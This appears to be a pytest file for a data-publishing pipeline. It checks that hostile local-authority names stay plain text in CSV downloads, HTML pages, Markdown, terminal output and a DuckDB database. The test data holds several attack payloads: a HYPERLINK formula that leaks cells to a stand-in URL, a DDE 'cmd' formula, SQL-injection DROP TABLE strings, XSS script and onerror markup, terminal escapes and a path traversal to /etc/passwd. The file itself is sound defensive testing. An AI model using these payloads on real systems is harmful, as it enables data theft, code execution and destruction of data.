"""Names that are formulas, markup, escapes or SQL are shown as the texts that they are, wherever they are shown.

What belongs here: CSV files, pages, Markdown in Dagster, the terminal, and the database. What does not: whole runs
(`test_hostile_run`) and how a browser draws a page (`tests/browser`).
"""

from __future__ import annotations

import csv
import dataclasses
import html.parser
import io
import json
import re
from pathlib import Path
from typing import Any

import duckdb
import pandas as pd
import pytest

from assets import describe, terminal
from pipeline import places, profile, publish
from pipeline.errors import Refusal
from pipeline.report import site
from pipeline.report.page import Column, DataTable
from pipeline.visible import visible
from tests.fixtures import small_country as small
from tests.fixtures import small_report

FORMULA = '=HYPERLINK("http://example.org?leak="&A1,"Eastmere")'
SQL = "Robert'); DROP TABLE main.care_numbers;--"
MARKUP = '</script><script>alert("x")</script><img src=x onerror=alert(1)>'
NAMES = {
    small.MARLSHIRE: FORMULA,
    small.KINGS_FERRY: SQL,
    small.EASTMERE: MARKUP,
    small.ISLAND: "[red]Isle[/red] \x1b[2J",
}


# ---------------------------------------------------------------------------------------------------------------------
# Cells of a spreadsheet

RUN = [
    "=1+1",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    " =1",
    "\n=1",
    "\uff1d1+1",
    "a;=1+1",
    "a\t@x",
]
KEPT = ["-1.5", "+2", "-3e-05", "-", "Leeds", "Stoke-on-Trent", "a = b", "a; b", "1=1", "", "c", ":"]


def in_csv(value: Any) -> str:
    table = DataTable("one", "One", [Column("value", "Value")], [{"value": value}])
    return list(csv.DictReader(io.StringIO(table.csv("England"), newline="")))[0]["value"]


def begins_a_formula(cell: str) -> bool:
    """As a spreadsheet may judge, whichever of the usual characters it splits cells at."""
    parts = cell.replace(";", "\n").replace("\t", "\n").replace("\r", "\n").split("\n")
    return any(
        part.lstrip()[:1] in {*"=+-@", "\uff1d", "\uff0b", "\uff0d", "\uff20"} and part.strip()
        for part in parts
        if part == part.lstrip()
    )


@pytest.mark.parametrize("text", RUN)
def test_a_text_is_never_a_formula(text: str) -> None:
    cell = in_csv(text)
    assert not begins_a_formula(cell)
    assert cell[0] not in "=+-@\t\r"
    assert cell.replace("'", "") == text.replace("'", "").replace("\r", "\n")  # nothing of it is lost


@pytest.mark.parametrize("value", [*KEPT, -1.5, -3, 0.1, True])
def test_other_texts_and_all_numbers_stay_as_they_are(value: Any) -> None:
    assert in_csv(value) == str(value)


def test_the_country_is_a_text_too() -> None:
    table = DataTable("one", "One", [Column("value", "Value")], [{"value": 1}])
    assert table.csv("=1+1").splitlines()[1] == "1,'=1+1"


# ---------------------------------------------------------------------------------------------------------------------
# Markdown, the terminal, a refusal


def test_markdown_shows_names_as_they_are() -> None:
    """No picture that a browser would fetch, no link, no markup, and no row more than there are."""
    frame = pd.DataFrame({"file": ["![x](http://example.org/leak.png) | <b>b</b>\n| c |", "a_b.csv"]})
    text = str(describe.preview(frame, ["file"]).value)
    assert len(text.splitlines()) == 4
    assert not set("![]<>*`") & set(re.sub(r"\\.", "", text))  # all that is left of markup is escaped
    assert text.splitlines()[3] == "| a_b.csv |"  # an underscore within a word is no markup


@pytest.mark.parametrize("text", ["\x1b[2J", "\x1b]0;title\x07", "\x9b31m", "\r", "\u202e", "\udcff"])
def test_the_terminal_shows_control_characters_and_does_not_obey(text: str) -> None:
    stream = io.StringIO()
    terminal.Terminal(file=stream, width=200).print(f"before {text} after\nnext", highlight=False)
    shown = stream.getvalue()
    assert text not in shown and "\x1b" not in shown
    assert visible(text) in shown and shown.count("\n") == 2


def test_a_refusal_shows_a_hostile_cell_and_only_a_piece_of_a_long_one() -> None:
    refusal = Refusal(
        "x", "problem", remedy="remedy", file="\x1b[2J.csv", column="c" * 10_000, value="\x1b" + "v" * 10_000
    )
    assert "\x1b" not in str(refusal) and r"\x1b[2J.csv" in str(refusal)
    assert len(str(refusal)) < 1_000
    assert str(refusal).isprintable()


# ---------------------------------------------------------------------------------------------------------------------
# The database and the report


@pytest.fixture(scope="module")
def database(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The small country with hostile names, published twice: the second time what changed is told of the first."""
    folder = tmp_path_factory.mktemp("it's; DROP TABLE x--")
    counts = small.COUNTS | {small.ISLAND: (5, 6)}
    country = small.country(counts, small.POPULATIONS | small_report.PEOPLE, too_small=[small.ISLAND])
    local = small.local_authorities(NAMES, [small.ISLAND])
    results = dataclasses.replace(country, local_authorities=local).results()
    frames = small.write_frames(folder / "frames", results)
    for _ in range(2):
        done = publish.publish(
            folder / "care_numbers.duckdb", frames, places.sql_folder(), small_report.FACTS, is_fictional=True
        )
    return done.database


def test_sql_in_a_name_is_a_name(database: Path) -> None:
    connection = duckdb.connect(str(database), read_only=True)
    try:
        names = {name for (name,) in connection.execute("SELECT DISTINCT la_name FROM main.care_numbers").fetchall()}
    finally:
        connection.close()
    assert {FORMULA, SQL, MARKUP} <= names
    assert profile.profile(database, SQL).la_code == small.KINGS_FERRY


@pytest.mark.parametrize("asked", ["x'; DROP TABLE main.care_numbers;--", '"', "%", "\x1b[2J", "../../etc/passwd"])
def test_what_a_person_asks_for_is_no_sql(database: Path, asked: str) -> None:
    with pytest.raises(Refusal) as caught:
        profile.profile(database, asked)
    assert str(caught.value).isprintable()
    assert profile.profile(database, small.MARLSHIRE).la_name == FORMULA


class _Elements(html.parser.HTMLParser):
    """What a page is made of: scripts with their content, and attributes that could run something."""

    def __init__(self) -> None:
        super().__init__()
        self.scripts: list[tuple[dict[str, str | None], str]] = []
        self.running: list[str] = []

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        if tag == "script":
            self.scripts.append((dict(attributes), ""))
        self.running += [f"{tag} {name}={value}" for name, value in attributes if name.startswith("on")]
        self.running += [
            f"{tag} {name}={value}" for name, value in attributes if (value or "").startswith("javascript:")
        ]
        if tag in ("img", "iframe", "object", "embed"):
            self.running.append(tag)

    def handle_data(self, data: str) -> None:
        if self.scripts and self.lasttag == "script":
            attributes, content = self.scripts[-1]
            self.scripts[-1] = (attributes, content + data)


@pytest.fixture(scope="module")
def pages(database: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    return site.build(database, tmp_path_factory.mktemp("report") / "site").index.parent


def test_no_page_runs_anything_but_its_own_scripts(pages: Path) -> None:
    found = sorted(pages.rglob("*.html"))
    assert len(found) > 8
    for page in found:
        elements = _Elements()
        elements.feed(page.read_text(encoding="utf-8"))
        assert elements.running == [], page.name
        for attributes, content in elements.scripts:
            if "src" in attributes:
                assert (attributes["src"] or "").removeprefix("../").startswith("static/"), page.name
            else:
                assert attributes["type"] == "application/json", page.name
                json.loads(content)


def test_no_downloaded_table_holds_a_formula(pages: Path) -> None:
    seen = 0
    for file in sorted((pages / "tables").glob("*.csv")):
        with file.open(encoding="utf-8", newline="") as stream:
            for row in csv.reader(stream):
                for cell in row:
                    seen += "HYPERLINK" in cell
                    assert not begins_a_formula(cell) or is_number(cell) or cell == "-", (file.name, cell)
    assert seen > 3


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True
